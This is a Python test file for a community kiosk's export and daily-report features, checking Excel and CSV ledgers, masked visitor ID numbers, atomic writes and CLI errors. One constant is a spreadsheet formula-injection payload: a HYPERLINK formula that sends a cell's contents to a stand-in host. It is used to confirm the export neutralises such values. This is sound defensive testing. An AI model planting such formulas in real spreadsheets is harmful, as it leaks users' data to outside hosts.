"""Exports and the daily report, read back with openpyxl and csv: headers, a known passage, a visitor's masked ID
number, formula-safety, CSV with a BOM, nothing half-written, and the CLI end to end."""

from __future__ import annotations

import csv
import io
import uuid
import zipfile
from datetime import date, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from babel.messages.pofile import read_po
from click.testing import CliRunner

from kiosk import demo, demo_history
from kiosk.cli import main
from kiosk.office import daily_report, exports
from kiosk.office.registry_master import RegistryMaster
from kiosk.office.store import OfficeStore

ZONE = ZoneInfo(demo.TIMEZONE)
NOW = datetime(2026, 11, 28, 10, 0, tzinfo=ZONE)
FIRST, LAST = NOW.date() - timedelta(days=7), NOW.date()
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
REPO = Path(__file__).resolve().parents[3]


@pytest.fixture(scope="module")
def community(tmp_path_factory):
    """The demo community with its history (two gates, passages, a visitor, cars, a fever, shifts)."""
    folder = tmp_path_factory.mktemp("exports")
    c = demo.seed(folder / "demo", NOW)
    office, url = demo.start_office(c)
    try:
        demo_history.seed_history(c, NOW, url)
        demo.run(c, demo.checkpoint_config(c, demo.NORTH), NOW, url)
    finally:
        office.close()
    config = folder / "office.yaml"
    config.write_text(f"office:\n  name: 和平里社区\n  timezone: {demo.TIMEZONE}\n  data_dir: {c.office_dir}\n"
                      f"  keys_dir: {c.keys_dir}\n", encoding="utf-8")
    return c, config


def _open(c):
    return OfficeStore(c.office_dir / "office.db"), RegistryMaster(c.office_dir / "registry.db")


def _rows(book, title):
    return [list(r) for r in book[title].iter_rows(values_only=True)]


def test_xlsx_has_a_sheet_per_ledger_with_known_rows(community, tmp_path):
    c, _ = community
    store, master = _open(c)
    calls: list[tuple[int, int]] = []
    out = tmp_path / "ledger.xlsx"
    assert exports.export(store, master, FIRST, LAST, out, tz=ZONE, now=NOW,
                          progress=lambda d, t: calls.append((d, t))) == [out]
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["出入记录", "外来人员登记", "车辆登记", "体温异常", "居家隔离", "志愿者值守", "消杀记录", "排查"]
    passages = _rows(book, "出入记录")
    assert passages[0] == ["时间", "小区", "门岗", "方向", "结果", "体温(°C)", "姓名", "类别", "户", "卡号", "值守志愿者"]
    # a known passage: the office's first passage of the range, as stored, in Shanghai time
    ts, gate_id, subject = store.database().execute(
        "SELECT ts, gate_id, subject FROM events WHERE kind = 'passage' AND ts >= ? ORDER BY ts, gate_id, seq LIMIT 1",
        ["2026-11-20T16:00:00"]).fetchone()
    first = passages[1]
    moment = datetime.fromisoformat(ts.replace("Z", "+00:00")).astimezone(ZONE).replace(tzinfo=None, microsecond=0)
    assert first[0] == moment
    assert first[2] == {g.id: g.name for g in demo.GATES}[gate_id]
    assert first[6] == master.resident(int(subject.split(":")[1]))["name"]
    assert len(passages) - 1 == store.database().execute(
        "SELECT COUNT(*) FROM events WHERE kind = 'passage' AND ts >= ? AND ts < ?",
        ["2026-11-20T16:00:00", "2026-11-28T16:00:00"]).fetchone()[0]
    visitors = _rows(book, "外来人员登记")
    assert visitors[0][:7] == ["进入时间", "离开时间", "小区", "门岗", "姓名", "电话", "身份证号(隐去)"]
    sun = next(r for r in visitors[1:] if r[4] == "孙来访")
    assert sun[6] == "110***********002X" and sun[9] == "探亲" and sun[1] > sun[0]  # in, then out the same day
    vehicles = _rows(book, "车辆登记")
    assert any(r[3] == "京A12345" and r[5] == "是" for r in vehicles[1:])
    fevers = _rows(book, "体温异常")
    assert fevers[1][3] == "刘洋" and fevers[1][6] == 37.6 and fevers[1][7] == "已陪同回家"
    duty = _rows(book, "志愿者值守")
    assert {r[2] for r in duty[1:]} == {"赵志愿", "钱志愿"} and all(r[5] > 0 for r in duty[1:])
    rounds = _rows(book, "消杀记录")
    assert rounds[0] == ["日期", "时间", "小区", "区域", "消毒剂", "消杀人", "登记方式", "门岗", "备注", "登记人"]
    assert len(rounds) > 1 and all(r[1].startswith(r[0]) and r[3] and r[5] for r in rounds[1:])
    checks = _rows(book, "居家隔离")
    assert checks[0][:3] == ["隔离单号", "居民", "户"] and checks[0][9] == "体温(°C)"
    taken = [r for r in checks[1:] if r[9] is not None]
    assert taken and all(r[7] in (1, 2) and r[10] in ("是", "否") and r[11] in ("电话", "上门") for r in taken)
    screening = _rows(book, "排查")
    assert screening[0] == ["排查轮次", "小区", "户", "状态", "排查人", "时间", "情况", "备注"]
    assert {r[3] for r in screening[1:]} <= {"已入户", "电话确认", "未联系上", "未排查"}
    assert calls[0] == (0, calls[-1][1]) and calls[-1][0] == calls[-1][1] > 0
    assert [d for d, _ in calls] == sorted(d for d, _ in calls)
    assert not list(tmp_path.glob(".*part"))


def _visitor_store(tmp_path: Path):
    """A fresh office with one gate and a visitor named like a formula (and a phone beginning with +)."""
    store = OfficeStore(tmp_path / "office.db")
    master = RegistryMaster(tmp_path / "registry.db")
    store.add_gate("g1", "东门")
    data = {"verdict": "admit", "direction": "in", "name": EVIL, "phone": "+8613900001111", "coming_from": "@home",
            "reason": "delivery", "id_masked": "110***********002X", "temperature_c": 36.5}
    store.ingest("g1", [{"gate_id": "g1", "seq": 1, "id": uuid.uuid4().hex, "ts": "2026-11-27T02:00:00.000Z",
                         "kind": "visitor_registration", "data": data}])
    return store, master


def test_formula_like_values_stay_text_in_xlsx(tmp_path):
    store, master = _visitor_store(tmp_path)
    out = tmp_path / "v.xlsx"
    exports.export(store, master, date(2026, 11, 27), date(2026, 11, 27), out, tz=ZONE)
    cell = openpyxl.load_workbook(out)["外来人员登记"]["E2"]
    assert cell.value == EVIL and cell.data_type == "s" and cell.quotePrefix
    with zipfile.ZipFile(out) as z:
        sheet = z.read("xl/worksheets/sheet2.xml").decode()
    assert "<f>" not in sheet and 'HYPERLINK' in sheet  # stored as text, never as a formula
    row = [c.value for c in openpyxl.load_workbook(out)["外来人员登记"][2]]
    assert row[5] == "+8613900001111" and row[7] == "@home" and row[9] == "送货"


def test_csv_files_have_a_bom_and_an_apostrophe_before_formulas(tmp_path):
    store, master = _visitor_store(tmp_path)
    written = exports.export(store, master, date(2026, 11, 27), date(2026, 11, 27), tmp_path / "day.csv", tz=ZONE)
    assert [p.name for p in written] == [f"day-{code}.csv" for code in (
        "passages", "visitors", "vehicles", "fevers", "quarantine", "volunteers", "disinfection", "screening")]
    raw = (tmp_path / "day-visitors.csv").read_bytes()
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:2] == ["进入时间", "离开时间"]
    assert rows[1][0] == "2026-11-27 10:00:00"  # Shanghai time
    assert rows[1][4] == "'" + EVIL and rows[1][5] == "'+8613900001111" and rows[1][6] == "110***********002X"
    zipped = exports.export(store, master, date(2026, 11, 27), date(2026, 11, 27), tmp_path / "day.zip", tz=ZONE)
    with zipfile.ZipFile(zipped[0]) as z:
        assert z.read("day-visitors.csv") == raw


def test_long_ledger_goes_on_in_a_second_sheet(tmp_path, monkeypatch, community):
    c, _ = community
    store, master = _open(c)
    monkeypatch.setattr(exports, "SHEET_ROWS", 10)
    out = tmp_path / "split.xlsx"
    exports.export(store, master, FIRST, LAST, out, tz=ZONE, now=NOW)
    book = openpyxl.load_workbook(out)
    assert "出入记录 2" in book.sheetnames and book["出入记录 2"]["A1"].value == "时间"
    assert book["出入记录"].max_row == 11


def test_refusals_and_nothing_half_written(tmp_path, community, monkeypatch):
    c, _ = community
    monkeypatch.setattr(exports, "PROGRESS_EVERY", 10)  # fail mid-way, while rows are being written
    store, master = _open(c)
    with pytest.raises(exports.ExportError, match="92"):
        exports.export(store, master, date(2026, 1, 1), date(2026, 6, 1), tmp_path / "x.xlsx")
    with pytest.raises(exports.ExportError, match="早于"):
        exports.export(store, master, LAST, FIRST, tmp_path / "x.xlsx")
    with pytest.raises(exports.ExportError, match=".xlsx"):
        exports.export(store, master, FIRST, LAST, tmp_path / "x.txt")
    target = tmp_path / "keep.xlsx"
    target.write_bytes(b"old")

    def broken(done: int, total: int) -> None:
        if done:
            raise RuntimeError("disk gone")

    with pytest.raises(RuntimeError):
        exports.export(store, master, FIRST, LAST, target, tz=ZONE, progress=broken)
    assert target.read_bytes() == b"old" and sorted(p.name for p in tmp_path.iterdir()) == ["keep.xlsx"]


def test_daily_report(community, tmp_path):
    c, _ = community
    store, master = _open(c)
    fever_day = NOW.date() + timedelta(days=demo_history.FEVER_DAY)
    figures = daily_report.compute(store, master, fever_day, tz=ZONE, now=NOW)
    (compound,) = figures["compounds"]
    assert compound["fevers"] == 1 and compound["handling"] == {"已陪同回家": 1}
    assert compound["in"] > 0 and compound["out"] > 0 and compound["vehicles"] > 0
    assert figures["quarantine"]["orders"] >= 1
    assert all(0 < g["staffed_hours"] <= 24 for g in figures["gates"])
    out = daily_report.write_xlsx(figures, tmp_path / "day.xlsx", community="和平里社区")
    rows = _rows(openpyxl.load_workbook(out), "日报")
    assert rows[0][0] == f"和平里社区 疫情防控日报 {fever_day}"
    table = {r[0]: r for r in rows if r[0] in (compound["compound"], "合计")}
    assert table["合计"][6] == 1 and table["合计"][7] == "已陪同回家 1 人"
    assert [r[0] for r in rows if str(r[0] or "")[:2] in ("一、", "二、", "三、", "四、", "五、")] == [
        "一、出入情况", "二、居家隔离", "三、逐户排查", "四、消杀", "五、门岗值守"]


def test_cli_export_and_report(community, tmp_path):
    c, config = community
    runner = CliRunner()
    out = tmp_path / "all.xlsx"
    result = runner.invoke(main, ["office", "export", "--from", str(FIRST), "--to", str(LAST), "--out", str(out),
                                  "--config", str(config)])
    assert result.exit_code == 0, result.output
    assert "100%" in result.stderr and str(out) in result.stdout
    assert openpyxl.load_workbook(out)["出入记录"].max_row > 1
    result = runner.invoke(main, ["office", "report", "--day", str(LAST - timedelta(days=2)), "--out",
                                  str(tmp_path / "r.xlsx"), "--config", str(config)])
    assert result.exit_code == 0, result.output
    assert openpyxl.load_workbook(tmp_path / "r.xlsx")["日报"]["A1"].value.startswith("和平里社区 疫情防控日报")
    for args, message in (
            (["export", "--from", "2026-13-01", "--to", str(LAST), "--out", str(out)], "--from 须为日期"),
            (["export", "--from", "2026-01-01", "--to", str(LAST), "--out", str(out)], "最多 92 天"),
            (["export", "--from", str(FIRST), "--to", str(LAST), "--out", str(out / "x.xlsx")], "文件夹不存在"),
            (["export", "--from", str(FIRST), "--to", str(LAST), "--out", str(tmp_path)], "是文件夹"),
            (["report", "--day", "yesterday", "--out", str(out)], "--day 须为日期"),
            (["report", "--day", str(LAST), "--out", str(tmp_path / "r.docx")], "日报须为 .pdf 或 .xlsx")):
        result = runner.invoke(main, ["office", *args, "--config", str(config)])
        assert result.exit_code == 2, result.output
        assert message in result.stderr and "Traceback" not in result.output
        assert len(result.stderr.strip().splitlines()) == 1


def test_words_match_the_desks_chinese_catalogs():
    from web.common import words

    office = read_po(open(REPO / "web/office/translations/zh_Hans_CN/LC_MESSAGES/messages.po", "rb"))
    gate = read_po(open(REPO / "web/gate/translations/zh_Hans_CN/LC_MESSAGES/messages.po", "rb"))

    def chinese(english: str) -> str:
        message = office.get(english) or gate.get(english)
        assert message is not None, english
        return message.string

    for table, mine in ((words.ACK_OUTCOMES, exports.OUTCOMES), (words.DIRECTIONS, exports.DIRECTIONS),
                        (words.VERDICTS_SHORT, exports.VERDICTS)):
        assert {code: chinese(text._args[0]) for code, text in table.items()} == mine
    from kiosk.visitor_reasons import VisitorReason

    assert set(exports.REASONS) == {r.value for r in VisitorReason}
